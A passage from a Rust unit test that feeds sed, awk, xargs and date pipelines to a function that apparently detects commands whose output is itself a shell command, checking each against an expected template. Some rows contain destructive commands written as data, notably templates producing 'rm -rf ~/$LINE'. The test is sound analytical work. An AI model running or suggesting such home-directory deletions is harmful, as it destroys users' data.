        ("sed 's/\\(.*\\)/mv \\1 old/'", Some("mv $LINE old")),
        ("sed -E 's/(.*)/mv \\1 old/'", Some("mv $LINE old")),
        ("sed 's/^/a\\/b /'", Some("a/b $LINE")),
        ("awk '{print \"rm -rf ~/\" $1}'", Some("rm -rf ~/$LINE")),
        ("awk '{print \"echo\", $0}'", Some("echo $LINE")),
        (
            "awk '{printf \"sox %s %s\\n\", $0, $0 \".wav\"}'",
            Some("sox $LINE $LINE.wav\n"),
        ),
        ("xargs -I{} echo rm -rf ~/{}", Some("rm -rf ~/$LINE")),
        ("xargs -n1 echo rm", Some("rm $LINE")),
        ("xargs echo", Some("$LINE")),
        (
            "date +'CDATE=%Y-%m-%d EPOCH=%s'",
            Some("CDATE=0-0-0 EPOCH=0"),
        ),
        ("date -u +%Y%m%d", Some("000")),
        // Not a template whose output is plain.
        ("sed -n 's/^/rm /p'", None),
        ("sed 's/^/rm /; s/x/y/'", None),
        ("sed 's/a/b/'", None),
        ("sed 's/^/\\1/'", None),
        ("sed -i 's/^/rm /' f", None),
        ("sed 's/^/rm /' > out.sh", None),
        ("awk '{ if ($1) print \"rm \" $1 }'", None),
        ("awk '{print \"rm \" $1 > \"f\"}'", None),
        ("xargs printf 'rm %s\\n'", None),
        ("xargs -I{} rm {}", None),
        ("date -s 'tomorrow'", None),
        ("date", None),
        ("cat list", None),
    ];
    for (input, want) in rows {
        let cmd = first(input);
        assert_eq!(super::runs::templated(&cmd).as_deref(), *want, "{input}");
    }
}
